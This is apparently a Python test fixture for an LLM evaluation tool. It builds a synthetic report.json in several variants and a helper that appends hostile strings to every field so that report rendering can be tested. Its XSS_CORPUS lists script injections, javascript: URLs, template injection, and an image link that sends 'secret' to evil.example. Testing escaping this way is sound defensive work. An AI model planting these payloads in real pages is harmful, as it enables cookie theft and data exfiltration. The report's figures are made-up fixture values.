"""A realistic stored report (report.json as a dict) in its variants, and a way to put
hostile text into every string of it."""

from __future__ import annotations

import copy
import re
from typing import Any

BASELINE = "openai/gpt-4o-mini"
CANDIDATE = "anthropic/claude-haiku-4-5"
CONCISE = "openai/gpt-4o-mini@concise"
RUN_ID = "20261130T052720Z_51aa5390"
REPORT_PATH = ".evalsite/reports/support-desk/20261130T052720Z_51aa5390"
SUITE_HASH = "5f" * 32

VARIANTS = ("eligible", "uncalibrated", "kappa_undefined", "no_labels", "no_judge")

# Text a model, a suite author or a labeller could put into any string of a report.
XSS_CORPUS = (
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "![x](http://evil.example/?q=secret)",
    "[click me](javascript:alert(1))",
    '<img src="https://evil.example/pixel.png">',
    "{{ request.user.password }}{% csrf_token %}",
    '<div hx-get="/admin/" hx-trigger="load">x</div>',
    "` ``` ~~~ `` code",
    "a | b || c \\| d",
    "\u202eevil\u200b\u2066",
    "\x1b[31mred\x1b[0m\x07",
    "line1\nline2\r\n# heading\n- item\n```\n<script>x</script>",
    "&lt;script&gt; &amp; &#60;",
    "<!-- comment --><![CDATA[x]]>",
    "<style>body{background:url(http://evil.example/)}</style>",
    "see http://evil.example/ and www.evil.example and a@evil.example",
    "data:text/html,<script>alert(1)</script>",
    "\ud800 lone surrogate \ufffe",
)

# Dicts whose keys are names from the report, not field names of the format.
_DATA_KEYED = frozenset({"win_rates", "per_contestant", "excluded_by_reason", "pairwise"})


def _win_rate(win_rate, ci, n, *, wins, losses, ties, soft_wins, soft_losses, flips, excluded=0,
              by_reason=None, schema=(0.95, 40)) -> dict[str, Any]:  # fmt: skip
    flip_rate = flips / n if n else None
    return {
        "vs": BASELINE,
        "win_rate": win_rate,
        "ci": ci,
        "n": n,
        "wins": wins,
        "losses": losses,
        "ties": ties,
        "soft_wins": soft_wins,
        "soft_losses": soft_losses,
        "flips": flips,
        "flip_rate": flip_rate,
        "flip_warning": flip_rate is not None and flip_rate > 0.30,
        "excluded": excluded,
        "excluded_by_reason": by_reason or {},
        "schema_pass_rate": schema[0],
        "schema_n": schema[1],
    }


def _card(usd: float, *, schema_pass: int = 38, errors: int = 0) -> dict[str, Any]:
    return {
        "schema": {"n": 40, "pass": schema_pass, "rate": schema_pass / 40, "native": 30,
                   "prompted": 8, "parse_fail": 1, "schema_fail": 40 - schema_pass - 1,
                   "not_applicable": 0},
        "checks": {"n": 40, "pass": 34, "rate": 0.85},
        "exec": {"n": 10, "pass": 8, "fail": 1, "error": 1, "rate": 0.8, "isolation": "bwrap"},
        "grade": {"n": 0, "pass": 0, "mean": None, "errors": 0},
        "pass_k": {"k": 2, "cases": 20, "pass_all": 16, "pass_any": 19, "pass_all_rate": 0.8,
                   "pass_any_rate": 0.95},
        "latency": {"n": 40, "p50": 820, "p95": 1930},
        "tokens": {"input": 12400, "output": 5300},
        "cost": {"usd": usd, "if_uncached_usd": usd, "per_1k_calls_usd": usd / 40 * 1000,
                 "calls": 40},
        "errors": errors,
    }  # fmt: skip


def _calibration(variant: str) -> dict[str, Any]:
    common = {"min_kappa": 0.40, "min_labels": 10, "labels_stale": 1, "labels_ignored": 2,
              "no_majority": 1}  # fmt: skip
    if variant == "no_labels" or variant == "no_judge":
        return common | {
            "status": "no_labels", "reason": "no labels yet", "kappa": None,
            "kappa_band": None, "kappa_ci": None, "kappa_ci_bootstrap": None, "agreement": None,
            "n": 0, "labels_needed": None, "confusion": [[0, 0, 0], [0, 0, 0], [0, 0, 0]],
            "per_task": [], "labels_used": {"browser": 0, "suite_file": 0, "total": 0},
            "labels_stale": 0, "labels_ignored": 0, "no_majority": 0,
            "humans": {"pairwise": {}, "fleiss_kappa": None, "krippendorff_alpha": None,
                       "n_items": 0},
            "curve": [],
        }  # fmt: skip
    shapes = {
        # status, reason, kappa, band, ci, boot, agreement, n, needed, confusion
        "eligible": ("ok", "kappa 0.62 (substantial) over 40 labels", 0.62, "substantial",
                     [0.45, 0.79], [0.44, 0.80], 0.775, 40, None,
                     [[12, 2, 1], [3, 14, 1], [1, 1, 5]]),
        "uncalibrated": ("below_floor", "kappa 0.25 is below the floor 0.40", 0.25, "fair",
                         [0.02, 0.48], [0.0, 0.5], 0.583, 12, 23,
                         [[3, 2, 0], [1, 3, 1], [1, 0, 1]]),
        "kappa_undefined": ("kappa_undefined", "kappa is undefined: one category only", None,
                            None, None, None, 1.0, 12, None,
                            [[0, 0, 0], [0, 12, 0], [0, 0, 0]]),
    }  # fmt: skip
    status, reason, kappa, band, ci, boot, agreement, n, needed, confusion = shapes[variant]
    curve_kappas = [None, 0.1, 0.18, kappa] if kappa is not None else [None, None]
    curve = [
        {"n": (i + 1) * n // len(curve_kappas), "kappa": k,
         "ci": None if k is None else [max(-1.0, k - 0.3), min(1.0, k + 0.3)]}
        for i, k in enumerate(curve_kappas)
    ]  # fmt: skip
    return common | {
        "status": status, "reason": reason, "kappa": kappa, "kappa_band": band, "kappa_ci": ci,
        "kappa_ci_bootstrap": boot, "agreement": agreement, "n": n, "labels_needed": needed,
        "confusion": confusion,
        "per_task": [
            {"task": "refund-policy", "n": 3, "kappa": None, "band": None, "agreement": 0.667,
             "low_n": True},
            {"task": "triage", "n": n - 3, "kappa": kappa, "band": band, "agreement": agreement,
             "low_n": False},
        ],
        "labels_used": {"browser": n - 4, "suite_file": 4, "total": n},
        "humans": {"pairwise": {"ana~ben": 0.71, "ana~chi": None}, "fleiss_kappa": 0.66,
                   "krippendorff_alpha": 0.67, "n_items": 6},
        "curve": curve,
    }  # fmt: skip


def _per_task(judged: bool) -> list[dict[str, Any]]:
    def rates(first: float, second: float) -> dict[str, Any]:
        if not judged:
            return {}
        return {CANDIDATE: {"win_rate": first, "n": 10, "flips": 1},
                CONCISE: {"win_rate": second, "n": 10, "flips": 4}}  # fmt: skip

    return [
        {"task": "refund-policy", "kind": "text", "answers": 60, "pass_rate": 0.6,
         "win_rates": rates(0.35, 0.55)},
        {"task": "triage", "kind": "json", "answers": 60, "pass_rate": 0.9,
         "win_rates": rates(0.575, 0.6)},
    ]  # fmt: skip


def _per_tag(judged: bool) -> list[dict[str, Any]]:
    def rates(value: float) -> dict[str, Any]:
        if not judged:
            return {}
        return {CANDIDATE: {"win_rate": value, "n": 8}, CONCISE: {"win_rate": None, "n": 0}}

    def cell(n: int, passed: int) -> dict[str, Any]:
        return {"n": n, "passed": passed, "rate": passed / n, "flagged": passed / n < 0.7}

    return [
        {"tag": "billing",
         "contestants": {BASELINE: cell(40, 32), CANDIDATE: cell(40, 24), CONCISE: cell(40, 30)},
         "win_rates": rates(0.4)},
        {"tag": "routing",
         "contestants": {BASELINE: cell(80, 72), CANDIDATE: cell(80, 72), CONCISE: cell(80, 76)},
         "win_rates": rates(0.5)},
    ]  # fmt: skip


def make_report(variant: str = "uncalibrated", **overrides: Any) -> dict[str, Any]:
    """report.json of a two-candidate run of the support-desk suite. ``variant``: one of
    :data:`VARIANTS`; ``overrides`` replace top-level keys."""
    assert variant in VARIANTS, variant
    judged = variant != "no_judge"
    calibration = _calibration(variant)
    win_rates = {
        CANDIDATE: _win_rate(0.4625, [0.325, 0.6125], 20, wins=7, losses=9, ties=1, soft_wins=1,
                             soft_losses=0, flips=3),
        CONCISE: _win_rate(0.575, [0.4, 0.75], 20, wins=6, losses=3, ties=2, soft_wins=1,
                           soft_losses=1, flips=7, excluded=2,
                           by_reason={"schema_fail": 1, "judge_unparseable": 1},
                           schema=(0.9, 40)),
    }  # fmt: skip
    report = {
        "format": 1,
        "run_id": RUN_ID,
        "status": "done",
        "detail": "",
        "created_at": "2026-11-30T05:27:20Z",
        "finished_at": "2026-11-30T05:29:02Z",
        "suite": {"name": "support-desk", "hash": SUITE_HASH, "mover_threshold": 0.15},
        "contestants": [BASELINE, CANDIDATE, CONCISE],
        "baseline": BASELINE,
        "judge": {"model": "anthropic/claude-sonnet-4-5", "is_contestant": False}
        if judged
        else None,
        "price_table": {"name": "default-2026-11", "pinned": "2026-11-01", "verified": False},
        "repeats": 2,
        "headline_eligible": variant == "eligible",
        "calibration": calibration,
        "win_rates": win_rates if judged else {},
        "bradley_terry": None,
        "per_contestant": {
            BASELINE: _card(0.0030),
            CANDIDATE: _card(0.0025),
            CONCISE: _card(0.0025, schema_pass=36, errors=1),
        },
        "per_task": _per_task(judged),
        "per_tag": _per_tag(judged),
        "movers": {
            "previous_run": "20261129T101010Z_0badc0de",
            "threshold": 0.15,
            "items": [
                {
                    "candidate": CANDIDATE,
                    "task": "refund-policy",
                    "before": 0.6,
                    "after": 0.35,
                    "delta": -0.25,
                },
            ]
            if judged
            else [],
            "note": "",
        },  # fmt: skip
        "exclusions": [
            {
                "task": "triage",
                "case": "t-07",
                "repeat": 1,
                "candidate": CONCISE,
                "reason": "schema_fail",
            },
            {
                "task": "triage",
                "case": "t-11",
                "repeat": 2,
                "candidate": CONCISE,
                "reason": "judge_unparseable",
            },
        ]
        if judged
        else [],
        "failures": [
            {
                "task": "refund-policy",
                "case": "r-03",
                "repeat": 1,
                "contestant": CONCISE,
                "kind": "provider_error",
                "message": "HTTP 529: overloaded",
            },
        ],
        "warnings": ["tag billing: pass rate 0.600 is below 0.70"],
        "totals": {
            "answers": 120,
            "pairs": 80 if judged else 0,
            "judge_calls": 156 if judged else 0,
            "cache_hits": 30,
            "calls": 276 if judged else 120,
            "cache_hit_rate": 30 / 276 if judged else 0.25,
            "cost_usd": 0.0658,
            "cost_answers_usd": 0.0080,
            "cost_judge_usd": 0.0578,
            "cost_if_uncached_usd": 0.0658,
            "simulated": False,
            "cost_incomplete": False,
        },  # fmt: skip
        "reproduce": {
            "command": "evalsite run suites/support-desk.yaml --models "
            f"{BASELINE},{CANDIDATE},{CONCISE} --repeats 2",
            "price_table": "default-2026-11 pinned 2026-11-01 (UNVERIFIED)",
            "cache": "120 answers cached",
        },
        "report_path": REPORT_PATH,
    }
    report.update(overrides)
    return report


def poisoned(report: Any, payload: str, _key: str = "") -> Any:
    """``report`` with ``payload`` appended to every string in it: values, and the keys of
    the dicts keyed by names (contestants, reasons, labeller pairs)."""
    if isinstance(report, str):
        return report + payload
    if isinstance(report, list):
        return [poisoned(item, payload) for item in report]
    if isinstance(report, dict):
        return {
            (key + payload if _key in _DATA_KEYED else key): poisoned(value, payload, key)
            for key, value in report.items()
        }
    return copy.deepcopy(report)


_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")


def outside_code(markdown: str) -> str:
    """The Markdown source with fenced blocks and code spans taken out: what a viewer
    would interpret."""
    kept, fence = [], None
    for line in markdown.splitlines():
        opening = re.match(r"^(`{3,})", line)
        if fence is None and opening:
            fence = opening.group(1)
        elif fence is not None:
            if re.fullmatch(rf"{fence}`*\s*", line):
                fence = None
        else:
            kept.append(_CODE_SPAN.sub("", line))
    assert fence is None, "a fenced block is not closed"
    return "\n".join(kept)
